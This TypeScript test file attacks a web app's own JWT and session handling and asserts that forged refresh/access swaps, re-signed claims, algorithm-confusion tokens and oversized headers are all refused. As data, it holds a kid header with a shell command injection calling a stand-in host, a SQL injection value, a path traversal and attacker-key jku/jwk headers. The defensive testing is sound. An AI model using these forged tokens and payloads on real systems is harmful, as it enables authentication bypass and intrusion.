import assert from 'node:assert/strict';
import { createHmac, generateKeyPairSync } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { sql } from 'drizzle-orm';
import type { LightMyRequestResponse } from 'fastify';
import { exportJWK, SignJWT } from 'jose';
import { buildTestApp, expectError, TEST_JWT_SECRET, type TestApp, type TestTenant, type TestUser } from '../test/harness.js';
import { previousTotpCode, totpCode } from '../test/authenticator.js';

// JWT and session abuse beyond src/modules/auth/auth.test.ts (which already covers a tampered
// payload with its old signature, alg none, an expired token, another secret for the whole token,
// and the refresh token on /me by bearer). Every attempt is counted per attack class; the counts are
// printed at the end, so a reader sees how much was tried.

const tried = new Map<string, number>();
const count = (kind: string, n = 1) => void tried.set(kind, (tried.get(kind) ?? 0) + n);

const SECRET = new TextEncoder().encode(TEST_JWT_SECRET);
const WRONG_KEY = new TextEncoder().encode('attacker-chosen-secret-attacker-chosen-secret');
const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const claimsOf = (token: string): Record<string, unknown> => JSON.parse(Buffer.from(token.split('.')[1]!, 'base64url').toString());
/** A token with any header, signed by HMAC-SHA256 over `header.payload` with `key` (whatever `alg` claims). */
const hmacToken = (header: object, payload: object, key: Uint8Array | string, hash = 'sha256') => {
  const input = `${b64(header)}.${b64(payload)}`;
  return `${input}.${createHmac(hash, key).update(input).digest('base64url')}`;
};
const now = () => Math.floor(Date.now() / 1000);

let t: TestApp;
let origin: string;
before(async () => {
  t = await buildTestApp();
  // Oversized headers are refused by Node's HTTP parser, before Fastify: only a real socket shows that.
  await t.app.listen({ port: 0, host: '127.0.0.1' });
  origin = `http://127.0.0.1:${(t.app.server.address() as AddressInfo).port}`;
});
after(async () => {
  await t.close();
  console.log(`token-abuse cases tried: ${[...tried].map(([k, n]) => `${k}=${n}`).join(', ')}; total ${[...tried.values()].reduce((a, b) => a + b, 0)}`);
});

/** Routes an access token opens, each with what a valid token gets. */
const protectedRoutes = (tenant: TestTenant) => [
  { method: 'GET' as const, url: '/api/v1/auth/me' },
  { method: 'GET' as const, url: '/api/v1/users' },
  { method: 'GET' as const, url: `/api/v1/tenants/${tenant.id}` },
  { method: 'GET' as const, url: '/api/v1/contents' },
  { method: 'GET' as const, url: '/api/v1/api-keys' },
  { method: 'GET' as const, url: '/api/v1/conversations' },
  { method: 'GET' as const, url: '/api/v1/auth/2fa' },
  { method: 'GET' as const, url: '/api/profile/' },
];

const me = (token: string) => t.request('GET', '/api/v1/auth/me', { token });
const refresh = (token: string) => t.request('POST', '/api/v1/auth/refresh', { body: { refresh_token: token } });
const refused = (res: LightMyRequestResponse, kind: string) => {
  count(kind);
  expectError(res, 401, 'AUTHENTICATION_ERROR');
};
/** The token opens nothing: every protected route, by bearer and by cookie. */
async function refusedEverywhere(tenant: TestTenant, token: string, kind: string) {
  for (const route of protectedRoutes(tenant)) {
    refused(await t.request(route.method, route.url, { token }), kind);
    refused(await t.request(route.method, route.url, { cookies: { shiori_access: token } }), kind);
  }
}
const freshSession = async (user: TestUser) => {
  const res = await t.login(user.email, user.password);
  assert.equal(res.statusCode, 200, res.body);
  return res.json() as { access_token: string; refresh_token: string };
};

describe('token type confusion', () => {
  test('a refresh token opens no route, by bearer or cookie, and the seed API refuses it too', async () => {
    const tenant = t.a;
    // A valid admin access token opens every one of these routes: the refusals below are about the token type.
    for (const route of protectedRoutes(tenant)) assert.equal((await t.request(route.method, route.url, { token: tenant.admin.accessToken })).statusCode, 200, route.url);
    const session = await freshSession(tenant.admin);
    await refusedEverywhere(tenant, session.refresh_token, 'refresh-as-access');
    const write = await t.request('POST', '/api/v1/auth/logout', { cookies: { shiori_access: session.refresh_token }, headers: { origin: t.publicUrl } });
    refused(write, 'refresh-as-access');
    count('refresh-as-access');
    expectError(await t.request('POST', '/api/logout/', { token: session.refresh_token }), 400, 'BAD_REQUEST');
    // The session is untouched by all that.
    assert.equal((await me(session.access_token)).statusCode, 200);
  });

  test('an access token is not a refresh token, in the body or the refresh cookie; a refresh token on /password is not either', async () => {
    const session = await freshSession(t.a.operator);
    refused(await refresh(session.access_token), 'access-as-refresh');
    refused(await t.request('POST', '/api/v1/auth/refresh', { cookies: { shiori_refresh: session.access_token } }), 'access-as-refresh');
    // Both at once: the body wins and is still refused.
    refused(await t.request('POST', '/api/v1/auth/refresh', { body: { refresh_token: session.access_token }, cookies: { shiori_refresh: session.refresh_token } }), 'access-as-refresh');
    refused(await t.request('POST', '/api/v1/auth/password', { token: session.refresh_token, body: { current_password: t.a.operator.password, new_password: 'NewPassword456' } }), 'refresh-as-access');
    // The genuine refresh token still works once.
    assert.equal((await refresh(session.refresh_token)).statusCode, 200);
  });
});

describe('time claims, signed with the real secret', () => {
  const resign = (token: string, change: Record<string, unknown>) => new SignJWT({ ...claimsOf(token), ...change }).setProtectedHeader({ alg: 'HS256', typ: 'JWT' }).sign(SECRET);
  const cases: Array<[string, (n: number) => Record<string, unknown>]> = [
    ['nbf an hour ahead', (n) => ({ nbf: n + 3600 })],
    ['nbf a minute ahead', (n) => ({ nbf: n + 60 })],
    ['iat an hour ahead', (n) => ({ iat: n + 3600 })],
    ['iat a day ahead, exp after it', (n) => ({ iat: n + 86_400, nbf: n - 10, exp: n + 90_000 })],
    ['iat in the past, longer than either token’s lifetime ago, exp still ahead', (n) => ({ iat: n - 8 * 86_400, nbf: n - 8 * 86_400, exp: n + 3600 })],
  ];
  for (const [name, change] of cases) {
    test(`${name}: access and refresh token refused`, async () => {
      const session = await freshSession(t.a.operator);
      refused(await me(await resign(session.access_token, change(now()))), 'time-claims');
      refused(await refresh(await resign(session.refresh_token, change(now()))), 'time-claims');
      // The real ones of the same session work: only the claim made the difference.
      assert.equal((await me(session.access_token)).statusCode, 200);
      assert.equal((await refresh(session.refresh_token)).statusCode, 200);
    });
  }

  test('an access token issued 40 minutes ago with a stretched exp: refused (30 minutes is the most an access token lives)', async () => {
    const session = await freshSession(t.a.operator);
    refused(await me(await resign(session.access_token, { iat: now() - 2400, nbf: now() - 2400, exp: now() + 86_400 })), 'time-claims');
  });

  test('missing iat or exp: refused', async () => {
    const session = await freshSession(t.a.operator);
    for (const drop of ['iat', 'exp']) {
      const claims = claimsOf(session.access_token);
      delete claims[drop];
      refused(await me(await new SignJWT(claims).setProtectedHeader({ alg: 'HS256' }).sign(SECRET)), 'time-claims');
    }
  });
});

describe('tampered claims', () => {
  const swaps = (victim: TestTenant) =>
    [
      ['role', { role: 'ADMIN' }],
      ['tid', { tid: victim.id }],
      ['sub', { sub: victim.admin.id }],
      ['sid+sub', { sub: victim.admin.id, sid: claimsOf(victim.admin.accessToken).sid }],
    ] as Array<[string, Record<string, unknown>]>;

  test('re-signed with a wrong key, or unsigned in four ways: refused', async () => {
    const token = t.a.operator.accessToken;
    for (const [, change] of swaps(t.b)) {
      const claims = { ...claimsOf(token), ...change };
      refused(await me(await new SignJWT(claims).setProtectedHeader({ alg: 'HS256' }).sign(WRONG_KEY)), 'tampered-claims');
      refused(await me(hmacToken({ alg: 'HS256', typ: 'JWT' }, claims, '')), 'tampered-claims');
      const unsigned = `${b64({ alg: 'HS256', typ: 'JWT' })}.${b64(claims)}`;
      refused(await me(`${unsigned}.`), 'tampered-claims');
      refused(await me(unsigned), 'tampered-claims');
      refused(await me(`${b64({ alg: 'none' })}.${b64(claims)}.`), 'tampered-claims');
    }
  });

  test('even signed with the real secret, role and tenant come from the database, and a session belongs to its user', async () => {
    const operator = t.a.operator;
    const claims = claimsOf(operator.accessToken);
    const forged = (change: Record<string, unknown>) => new SignJWT({ ...claims, ...change }).setProtectedHeader({ alg: 'HS256' }).sign(SECRET);

    const asAdmin = await forged({ role: 'ADMIN' });
    count('tampered-claims', 2);
    expectError(await t.request('GET', '/api/v1/users', { token: asAdmin }), 403, 'PERMISSION_DENIED');
    assert.equal((await me(asAdmin)).json().role, 'OPERATOR');

    const otherTenant = await forged({ tid: t.b.id, role: 'ADMIN' });
    count('tampered-claims', 2);
    const mine = await me(otherTenant);
    assert.equal(mine.json().tenant_id, t.a.id, 'the tenant is the user’s own');
    expectError(await t.request('GET', `/api/v1/tenants/${t.b.id}`, { token: otherTenant }), 404, 'RESOURCE_NOT_FOUND');

    // Another user's id with my session, my user id with another's session: the pair must match.
    refused(await me(await forged({ sub: t.b.admin.id })), 'tampered-claims');
    refused(await me(await forged({ sid: claimsOf(t.b.admin.accessToken).sid })), 'tampered-claims');
    refused(await me(await forged({ sub: 'not-a-uuid', sid: 'not-a-uuid' })), 'tampered-claims');
  });
});

describe('algorithm confusion and header injection', () => {
  test('HS384/HS512 with the real secret, RS256/ES256/PS256 headers over an HMAC, kid/jku/jwk/x5u headers with an attacker key: all refused', async () => {
    const claims = claimsOf(t.a.admin.accessToken);
    const session = await freshSession(t.a.admin);
    const refreshClaims = claimsOf(session.refresh_token);
    const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const jwk = await exportJWK(publicKey);
    const attempts: Array<[string, () => Promise<string> | string]> = [
      ['HS512, real secret', () => new SignJWT(claims).setProtectedHeader({ alg: 'HS512' }).sign(SECRET)],
      ['HS384, real secret', () => new SignJWT(claims).setProtectedHeader({ alg: 'HS384' }).sign(SECRET)],
      ['RS256 header, HMAC with the secret as "public key"', () => hmacToken({ alg: 'RS256', typ: 'JWT' }, claims, TEST_JWT_SECRET)],
      ['RS512 header, HMAC-SHA512 with the secret', () => hmacToken({ alg: 'RS512', typ: 'JWT' }, claims, TEST_JWT_SECRET, 'sha512')],
      ['ES256 header, HMAC with the secret', () => hmacToken({ alg: 'ES256' }, claims, TEST_JWT_SECRET)],
      ['PS256 header, HMAC with the secret', () => hmacToken({ alg: 'PS256' }, claims, TEST_JWT_SECRET)],
      ['lower-case hs256', () => hmacToken({ alg: 'hs256' }, claims, TEST_JWT_SECRET)],
      ['kid path traversal to /dev/null, empty key', () => hmacToken({ alg: 'HS256', kid: '../../../../../../dev/null' }, claims, '')],
      ['kid SQL injection naming the key', () => hmacToken({ alg: 'HS256', kid: "x' UNION SELECT 'attacker-key' --" }, claims, 'attacker-key')],
      ['kid command injection', () => hmacToken({ alg: 'HS256', kid: '$(curl evil.example)|id' }, claims, WRONG_KEY)],
      ['jku to an attacker JWKS, RS256 signed by the attacker', () => new SignJWT(claims).setProtectedHeader({ alg: 'RS256', jku: 'http://127.0.0.1:9/jwks.json', kid: 'k1' }).sign(privateKey)],
      ['embedded jwk, RS256 signed by the attacker', () => new SignJWT(claims).setProtectedHeader({ alg: 'RS256', jwk }).sign(privateKey)],
      ['x5u to an attacker certificate', () => new SignJWT(claims).setProtectedHeader({ alg: 'RS256', x5u: 'http://127.0.0.1:9/cert.pem' }).sign(privateKey)],
      ['crit header the server cannot know', () => hmacToken({ alg: 'HS256', crit: ['exp2'], exp2: 1 }, claims, WRONG_KEY)],
      ['b64:false unencoded payload', () => hmacToken({ alg: 'HS256', b64: false, crit: ['b64'] }, claims, TEST_JWT_SECRET)],
    ];
    for (const [name, make] of attempts) {
      const forged = await make();
      count('alg-confusion');
      const res = await me(forged);
      assert.equal(res.statusCode, 401, `${name}: ${res.body}`);
      expectError(res, 401, 'AUTHENTICATION_ERROR');
    }
    // The same attacks against the refresh endpoint.
    for (const [name, make] of [
      ['HS512 refresh', () => new SignJWT(refreshClaims).setProtectedHeader({ alg: 'HS512' }).sign(SECRET)],
      ['RS256 refresh over HMAC', () => hmacToken({ alg: 'RS256' }, refreshClaims, TEST_JWT_SECRET)],
      ['jwk refresh', () => new SignJWT(refreshClaims).setProtectedHeader({ alg: 'RS256', jwk }).sign(privateKey)],
    ] as Array<[string, () => Promise<string> | string]>) {
      const res = await refresh(await make());
      assert.equal(res.statusCode, 401, `${name}: ${res.body}`);
      refused(res, 'alg-confusion');
    }
    assert.equal((await refresh(session.refresh_token)).statusCode, 200, 'the genuine refresh token was not spent by the forgeries');
  });
});

describe('oversized credentials', () => {
  const big = 'a'.repeat(64 * 1024);
  const shaped = async (res: Response, label: string) => {
    count('oversized');
    assert.ok(res.status >= 400 && res.status < 500, `${label}: ${res.status}`);
    const body = (await res.json()) as { detail: unknown; error_code: unknown; timestamp: string };
    assert.equal(typeof body.detail, 'string', `${label}: ${JSON.stringify(body)}`);
    assert.equal(typeof body.error_code, 'string', label);
    assert.ok(!Number.isNaN(Date.parse(body.timestamp)), label);
  };

  test('64 kB Authorization header or cookie: 4xx in the error shape through app.inject (past the HTTP parser)', async () => {
    for (const token of [big, `${big}.${big}.${big}`, `eyJhbGciOiJIUzI1NiJ9.${big}.sig`]) {
      refused(await me(token), 'oversized');
      refused(await t.request('GET', '/api/v1/auth/me', { cookies: { shiori_access: token } }), 'oversized');
      refused(await t.request('POST', '/api/v1/auth/refresh', { cookies: { shiori_refresh: token } }), 'oversized');
    }
  });

  test('64 kB Authorization header or cookie over a real socket: 4xx in the error shape, then the server is healthy', async () => {
    await shaped(await fetch(`${origin}/api/v1/auth/me`, { headers: { authorization: `Bearer ${big}` } }), 'authorization');
    await shaped(await fetch(`${origin}/api/v1/auth/me`, { headers: { cookie: `shiori_access=${big}` } }), 'cookie');
    await shaped(await fetch(`${origin}/api/v1/auth/refresh`, { method: 'POST', headers: { cookie: `shiori_refresh=${big}` } }), 'refresh cookie');
    await shaped(await fetch(`${origin}/api/v1/auth/me`, { headers: Object.fromEntries(Array.from({ length: 64 }, (_, i) => [`x-pad-${i}`, 'b'.repeat(1024)])) }), 'many headers');
    const health = await fetch(`${origin}/health`);
    assert.equal(health.status, 200);
    const ok = await fetch(`${origin}/api/v1/auth/me`, { headers: { authorization: `Bearer ${t.a.admin.accessToken}` } });
    assert.equal(ok.status, 200, 'a normal request right after works');
  });
});

describe('tokens after account changes', () => {
  const admin = async (tenant: TestTenant, method: 'PATCH' | 'POST', url: string, body?: unknown) => {
    const res = await t.request(method, url, { token: tenant.admin.accessToken, body });
    assert.equal(res.statusCode, 200, res.body);
  };
  /** Access refused on the API, refresh refused: the session is over. */
  async function sessionDead(session: { access_token: string; refresh_token: string }, kind: string) {
    refused(await me(session.access_token), kind);
    refused(await t.request('GET', '/api/v1/contents', { cookies: { shiori_access: session.access_token } }), kind);
    refused(await refresh(session.refresh_token), kind);
  }

  test('password change: every other session’s access and refresh tokens die; the changing session lives on', async () => {
    const tenant = await t.createTenant('pw');
    const other = await freshSession(tenant.operator);
    const res = await t.request('POST', '/api/v1/auth/password', { token: tenant.operator.accessToken, body: { current_password: tenant.operator.password, new_password: 'NewPassword456' } });
    assert.equal(res.statusCode, 200, res.body);
    await sessionDead(other, 'after-password-change');
    assert.equal((await me(tenant.operator.accessToken)).statusCode, 200);
    assert.equal((await refresh(tenant.operator.refreshToken)).statusCode, 200);
  });

  test('2FA enabled, then disabled: each time every other session dies', async () => {
    const tenant = await t.createTenant('tfa');
    const user = tenant.operator;
    const before2fa = await freshSession(user);
    const setup = await t.request('POST', '/api/v1/auth/2fa/setup', { token: user.accessToken });
    const secret: string = setup.json().secret_key;
    const enabled = await t.request('POST', '/api/v1/auth/2fa/enable', { token: user.accessToken, body: { code: await previousTotpCode(secret) } });
    assert.equal(enabled.statusCode, 200, enabled.body);
    await sessionDead(before2fa, 'after-2fa-change');

    const second = (await t.login(user.email, user.password, { totp_code: enabled.json().recovery_codes[0] })).json();
    const disabled = await t.request('POST', '/api/v1/auth/2fa/disable', { token: user.accessToken, body: { password: user.password, code: totpCode(secret) } });
    assert.equal(disabled.statusCode, 200, disabled.body);
    await sessionDead(second, 'after-2fa-change');
    assert.equal((await me(user.accessToken)).statusCode, 200, 'the session that changed it lives on');
  });

  test('2FA reset by an ADMIN: every session of that user dies, and the old recovery codes open nothing', async () => {
    const tenant = await t.createTenant('tfareset');
    const user = tenant.operator;
    const enableTwoFactor = async (token: string) => {
      const setup = await t.request('POST', '/api/v1/auth/2fa/setup', { token });
      const enabled = await t.request('POST', '/api/v1/auth/2fa/enable', { token, body: { code: await previousTotpCode(setup.json().secret_key) } });
      assert.equal(enabled.statusCode, 200, enabled.body);
      return enabled.json().recovery_codes as string[];
    };
    const [first, second] = await enableTwoFactor(user.accessToken);
    const withCode = await t.login(user.email, user.password, { totp_code: first! });
    assert.equal(withCode.statusCode, 200, withCode.body);
    await admin(tenant, 'POST', `/api/v1/users/${user.id}/2fa/reset`);
    await sessionDead(withCode.json(), 'after-2fa-change');
    await sessionDead({ access_token: user.accessToken, refresh_token: user.refreshToken }, 'after-2fa-change');

    // The password alone logs in now; once 2FA is on again, the old unspent recovery code is refused.
    const next = await t.login(user.email, user.password);
    assert.equal(next.statusCode, 200, next.body);
    await enableTwoFactor(next.json().access_token);
    count('after-2fa-change');
    expectError(await t.login(user.email, user.password, { totp_code: second! }), 401, 'INVALID_TWO_FACTOR_CODE');
  });

  test('deactivated by an ADMIN: access and refresh die at once and stay dead after reactivation', async () => {
    const tenant = await t.createTenant('deact');
    const session = await freshSession(tenant.operator);
    await admin(tenant, 'PATCH', `/api/v1/users/${tenant.operator.id}`, { is_active: false });
    await sessionDead(session, 'after-deactivation');
    await sessionDead({ access_token: tenant.operator.accessToken, refresh_token: tenant.operator.refreshToken }, 'after-deactivation');
    count('after-deactivation');
    expectError(await t.login(tenant.operator.email), 401, 'AUTHENTICATION_ERROR');
    await admin(tenant, 'PATCH', `/api/v1/users/${tenant.operator.id}`, { is_active: true });
    await sessionDead(session, 'after-deactivation');
    assert.equal((await t.login(tenant.operator.email)).statusCode, 200, 'a new login works');
  });

  test('role change: the role comes from the database at once, for old tokens too; refreshed tokens carry the new role', async () => {
    const tenant = await t.createTenant('role');
    const op = tenant.operator;
    count('after-role-change', 4);
    await admin(tenant, 'PATCH', `/api/v1/users/${op.id}`, { role: 'ADMIN' });
    assert.equal(claimsOf(op.accessToken).role, 'OPERATOR');
    assert.equal((await t.request('GET', '/api/v1/users', { token: op.accessToken })).statusCode, 200, 'promoted: the old OPERATOR token is an ADMIN’s now');
    assert.equal((await me(op.accessToken)).json().role, 'ADMIN');

    const adminSession = await freshSession(op);
    await admin(tenant, 'PATCH', `/api/v1/users/${op.id}`, { role: 'OPERATOR' });
    assert.equal(claimsOf(adminSession.access_token).role, 'ADMIN');
    expectError(await t.request('GET', '/api/v1/users', { token: adminSession.access_token }), 403, 'PERMISSION_DENIED');
    expectError(await t.request('PATCH', `/api/v1/users/${tenant.admin.id}`, { token: adminSession.access_token, body: { is_active: false } }), 403, 'PERMISSION_DENIED');
    const renewed = await refresh(adminSession.refresh_token);
    assert.equal(claimsOf(renewed.json().access_token).role, 'OPERATOR');
  });

  test('user or tenant deleted from the database: their tokens are refused, never a 500', async () => {
    const { db } = t.app.database;
    const doomedUser = await t.createTenant('deluser');
    const userSession = await freshSession(doomedUser.operator);
    await db.execute(sql`delete from users where id = ${doomedUser.operator.id}`);
    await sessionDead(userSession, 'deleted-user-or-tenant');
    await sessionDead({ access_token: doomedUser.operator.accessToken, refresh_token: doomedUser.operator.refreshToken }, 'deleted-user-or-tenant');

    const doomedTenant = await t.createTenant('deltenant');
    const tenantSession = await freshSession(doomedTenant.admin);
    await db.execute(sql`delete from tenants where id = ${doomedTenant.id}`);
    await sessionDead(tenantSession, 'deleted-user-or-tenant');
    await sessionDead({ access_token: doomedTenant.operator.accessToken, refresh_token: doomedTenant.operator.refreshToken }, 'deleted-user-or-tenant');
    refused(await t.request('GET', `/api/v1/tenants/${doomedTenant.id}`, { token: tenantSession.access_token }), 'deleted-user-or-tenant');
  });

  test('tenant suspended: access is refused and the refresh token gives no new tokens', async () => {
    const tenant = await t.createTenant('susp');
    const session = await freshSession(tenant.operator);
    await t.app.database.db.execute(sql`update tenants set status = 'SUSPENDED' where id = ${tenant.id}`);
    count('suspended-tenant', 2);
    expectError(await me(session.access_token), 403, 'PERMISSION_DENIED');
    expectError(await refresh(session.refresh_token), 403, 'PERMISSION_DENIED');
  });
});
